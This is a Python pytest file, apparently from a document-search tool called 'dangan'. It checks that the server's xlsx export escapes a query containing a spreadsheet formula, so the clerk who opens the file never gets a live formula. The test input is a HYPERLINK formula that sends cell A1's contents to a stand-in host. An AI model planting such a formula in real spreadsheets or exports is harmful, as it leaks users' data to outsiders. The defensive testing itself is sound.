"""Hostile requests found by trying the web side as an outsider, against a real `dangan serve`
over the shared test index (real HTTP): what a link someone sends can make a clerk's
spreadsheet do."""
from __future__ import annotations

import io
import json

import pytest
import requests
from openpyxl import load_workbook

from test_server import serving

FORMULA = '=HYPERLINK("http://example.invalid/?leak="&A1,"点这里")'


@pytest.fixture(scope="module")
def base(built_index, tmp_path_factory):
    root = tmp_path_factory.mktemp("review-web")
    config = root / "config.toml"
    config.write_text(f"[index]\ndir = {json.dumps(built_index.index.dir.as_posix())}\n",
                      encoding="utf-8")
    with serving(config, root) as (url, _proc, _first, _port):
        yield url


def test_an_excel_export_never_holds_a_formula_from_the_query(base):
    """The query is written into the workbook's 说明 sheet: a link to an export whose q is a
    formula must not give the clerk who opens it a live formula."""
    r = requests.get(f"{base}/api/export", params={"q": FORMULA, "format": "xlsx"}, timeout=30)
    assert r.status_code == 200, r.text
    book = load_workbook(io.BytesIO(r.content))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert book["说明"]["B1"].value == "'" + FORMULA  # kept readable, as text
